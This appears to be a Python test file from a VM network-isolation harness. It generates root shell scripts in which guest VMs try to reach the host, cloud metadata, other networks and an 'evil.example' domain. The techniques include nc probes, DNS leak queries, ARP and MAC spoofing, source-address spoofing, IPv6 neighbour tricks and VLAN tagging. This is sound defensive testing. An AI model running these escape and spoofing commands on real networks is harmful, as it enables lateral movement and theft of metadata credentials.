"""What a guest tries in order to get out, as root: docs/networks.md explains the list.

Commands that say BANNER if they get through. In frames.py is what no command would send.
"""

from __future__ import annotations

import struct

from world import (
    BANNER,
    EVIL,
    FORGE,
    HOST,
    HOST6,
    HOST_TOO,
    LITERAL,
    METADATA,
    METADATA6,
    MIRROR,
    PRIVATE,
    PRIVATE_TOO,
    ROUTER,
)


def tcp(address: str, port: int = 80) -> str:
    return f"echo | nc -w 3 {address} {port}"


def dns(server: str) -> str:
    """A packet by UDP that an outside server would answer."""
    return f"timeout 3 nslookup evil.example {server} | grep -q {EVIL} && echo {BANNER}"


def question(name: str, kind: int = 1) -> bytes:
    """A DNS query."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    head = struct.pack(">HHHHHH", 0x4D4B, 0x100, 1, 0, 0, 0)
    return head + labels + struct.pack(">BHH", 0, kind, 1)


def ask_by_tcp(server: str, *queries: bytes) -> str:
    """The answers in hexadecimal. TXT is kind 16."""
    data = b"".join(struct.pack(">H", len(query)) + query for query in queries)
    text = "".join(f"\\{byte:03o}" for byte in data)
    return f"printf '{text}' | timeout 20 nc {server} 53 | hexdump -ve '1/1 \"%02x\"'"


def leaks(label: str) -> str:
    """A name that nobody may resolve, asked for in every way; the test listens for "leak"."""
    names = [f"leak-{label}-{number}.evil.example" for number in range(6)]
    return "; ".join(
        (
            f"timeout 5 nslookup {names[0]}",
            f"timeout 5 nslookup -type=txt {names[1]}",
            ask_by_tcp("$GW", question(names[2]), question(names[3], 16)),
            f"timeout 3 nslookup -type=txt {names[4]} {ROUTER}",
            ask_by_tcp(ROUTER, question(names[5], 16)).replace("timeout 20", "timeout 3"),
        )
    )


def resolves(name: str, address: str) -> str:
    return f"timeout 15 nslookup {name} | grep -q {address} && echo {BANNER}"


def pings(address: str) -> str:
    return f"ping -c 1 -W 3 {address} | grep -q ' 0% packet loss' && echo {BANNER}"


# What a guest tries, whatever its vnet's policy; all must fail. These run at the same time:
EVERYWHERE = {
    **{f"the host at {a}:{p}": tcp(a, p) for a in (HOST, HOST_TOO) for p in (80, 8080)},
    **{f"DNS of the host at {a}": dns(a) for a in (HOST, HOST_TOO)},
    **{f"metadata at {a}": tcp(a) for a in METADATA},
    **{f"DNS at metadata {a}": dns(a) for a in METADATA},
    **{f"the laboratory at {a}": tcp(a) for a in (PRIVATE, PRIVATE_TOO)},
    "the other sandbox": tcp("192.168.20.9"),
    "the link to the outside": f"{tcp('192.0.0.1')}; {tcp('192.0.0.2')}",
    "ports of the gateway": f"{tcp('$GW')}; {tcp('$GW', 8080)}; {tcp('$GW', 53)}",
    **{
        f"{a}, if it is another network's gateway": f"[ $GW = {a} ] || {{ {tcp(a)}; {pings(a)}; }}"
        for a in ("192.168.20.1", "192.168.30.1", "10.99.0.1")
    },
    "DNS by TCP of the host": (
        f"{ask_by_tcp(HOST, question('mirror.example'))} | grep -q . && echo {BANNER}"
    ),
    "IPv6 to the link-local address of the gateway": "ping6 -c 1 -W 3 -I eth0 $GW6"
    f" | grep -q ' 0% packet loss' && echo {BANNER}",
}
LISTED = {
    "a name that is not listed": resolves("evil.example", EVIL),
    "a name above a listed one": resolves("forge.example", FORGE),
    "a listed name that leads to metadata": resolves("metadata.forge.example", METADATA[0]),
    "a listed name that leads to the laboratory": resolves("private.forge.example", PRIVATE),
    "a listed name that leads to the host": resolves("host.forge.example", HOST),
    "an address that is not listed": tcp(EVIL),
    "a listed address at another port": tcp(MIRROR, 8080),
    "a listed network at another port": tcp(LITERAL, 8080),
    "another DNS server": dns(ROUTER),
    "DNS at an address outside": dns(EVIL),
    "words in names that are not listed": leaks("lan"),
}
SHUT = {
    "any name": resolves("mirror.example", MIRROR),
    "any address": f"{tcp(MIRROR)}; {tcp(LITERAL)}",
    "any DNS server": dns(ROUTER),
    "ping": pings(MIRROR),
    "words in names": leaks("shut"),
}
# These change the guest's own network, each another part of it, and run at the same time, too:
APART = {
    "loopback of the other side": "ip addr del 127.0.0.1/8 dev lo; ip route add 127.0.0.1 via $GW;"
    f"{tcp('127.0.0.1', 8080)}; ip addr add 127.0.0.1/8 dev lo",
    "metadata on the link, by ARP for the gateway": (
        f"ip route add {METADATA[0]}/32 dev eth0; arp -s {METADATA[0]} $GWMAC; {tcp(METADATA[0])};"
        f"ip route del {METADATA[0]}/32 dev eth0"
    ),
    "the host on the link, by ARP for the gateway": (
        f"ip route add {HOST}/32 dev eth0; arp -s {HOST} $GWMAC; {tcp(HOST, 8080)};"
        f"ip route del {HOST}/32 dev eth0"
    ),
    "the outside from an address of another network": (
        f"ip addr add 172.31.0.1/32 dev eth0; ip route add {EVIL}/32 via $GW src 172.31.0.1;"
        f"{tcp(EVIL)}; ip route del {EVIL}/32; ip addr del 172.31.0.1/32 dev eth0"
    ),
    "the host by IPv6": (
        "ip -6 neigh replace $GW6 lladdr $GWMAC dev eth0; ip -6 addr add 2001:db8::66/64 dev eth0;"
        f"ip -6 neigh replace {HOST6} lladdr $GWMAC dev eth0; {tcp(HOST6)};"
        f"ip -6 addr del 2001:db8::66/64 dev eth0; ip -6 route add {HOST6} via $GW6 dev eth0;"
        f"{tcp(HOST6)}; ip -6 route del {HOST6}"
    ),
}
# These run one after the other:
ALONE = {
    "the host from an address of the host": (
        f"ip addr add {HOST_TOO}/32 dev eth0; ip route add {HOST}/32 via $GW src {HOST_TOO};"
        f"{tcp(HOST, 8080)}; ip route del {HOST}/32; ip addr del {HOST_TOO}/32 dev eth0"
    ),
    "IPv6 metadata": (
        "ip -6 neigh add $GW6 lladdr $GWMAC dev eth0; ip -6 addr add fd00:ec2::1/64 dev eth0;"
        "ip -6 route add default via $GW6 dev eth0;"
        f"ip -6 neigh add {METADATA6} lladdr $GWMAC dev eth0; {tcp(METADATA6)}"
    ),
    "with the MAC address of the gateway": (
        "OLD=$(cat /sys/class/net/eth0/address); ip link set eth0 down;"
        "ip link set eth0 address $GWMAC; ip link set eth0 up; ip route add default via $GW;"
        f"{tcp(HOST, 8080)}; {tcp(METADATA[0])}; ip link set eth0 down;"
        "ip link set eth0 address $OLD; ip link set eth0 up; ip route add default via $GW"
    ),
    "a neighbour, with a VLAN tag": (
        "ip link add link eth0 name tagged type vlan id 5 || echo no tags;"
        "ip addr add $TAG.1/24 dev tagged; ip link set tagged up;"
        f"{pings('$TAG.2')}; ip link del tagged"
    ),
}
THROUGH_ROUTER = {
    "out through the router VM": (
        f"ip route add {MIRROR}/32 via 10.99.0.2; {tcp(MIRROR)}; ip route del {MIRROR}/32"
    ),
}
ATTEMPTS = {
    "attacker": ("192.168.20.1", ({**EVERYWHERE, **LISTED}, APART, ALONE)),
    "tourist": ("192.168.30.1", (EVERYWHERE, APART, ALONE)),
    "hermit": ("10.99.0.1", ({**EVERYWHERE, **SHUT}, APART, {**ALONE, **THROUGH_ROUTER})),
}
# The router has NICs with the tag too, so that only the bridge keeps them from the others.
TAGGED = "".join(
    f"ip link add link {card} name tag{card} type vlan id 5; ip addr add {net}.2/24 dev tag{card};"
    f"ip link set tag{card} up;"
    for card, net in (("eth0", "192.168.77"), ("eth1", "192.168.78"))
)


def attempts_of(vm: str) -> tuple[list[str], str]:
    """The names of the attempts, and a script that makes them."""
    gateway, (at_once, apart, alone) = ATTEMPTS[vm]
    script = [
        f"exec 2>/dev/null; GW={gateway}; ping -c 1 -w 10 $GW >/dev/null",
        f"TAG=192.168.{78 if vm == 'hermit' else 77}",
        'GWMAC=$(arp -n | grep "($GW)" | grep -o "[0-9a-f:]\\{17\\}" | head -n 1); echo $GWMAC',
        'set -- $(echo $GWMAC | tr : " "); GW6=fe80::$(printf %x $((0x$1 ^ 2)))$2:$3ff:fe$4:$5$6',
    ]
    names: list[str] = []
    for some, then in ((at_once, "&"), (apart, "&"), (alone, "")):
        for name, attempt in some.items():
            script.append(f"({attempt}) > /tmp/attempt.{len(names)} {then}")
            names.append(name)
        script.append("wait")
    script += [f"echo; echo == {n}; cat /tmp/attempt.{n}" for n in range(len(names))]
    return names, "\n".join(script)
